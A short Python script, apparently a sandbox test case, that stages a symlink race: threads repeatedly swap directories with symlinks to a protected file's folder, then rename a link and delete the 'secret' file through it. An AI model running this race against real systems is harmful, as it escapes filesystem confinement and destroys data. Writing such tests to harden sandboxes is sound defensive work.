"""write: leaves links where its folder is cleared, and swaps them with folders."""
import os, threading
outside = os.path.dirname(T['secret'])
def swap(number):
    while True:
        try:
            os.mkdir(f'd{number}')
            os.rmdir(f'd{number}')
            os.symlink(outside, f'd{number}')
            os.unlink(f'd{number}')
        except OSError: pass
for number in range(4): threading.Thread(target=swap, args=(number,), daemon=True).start()
for number in range(50): os.symlink(outside, f'link{number}')
import time
time.sleep(0.2)
os.rename('link0', 'folder')
os.unlink('folder/secret')
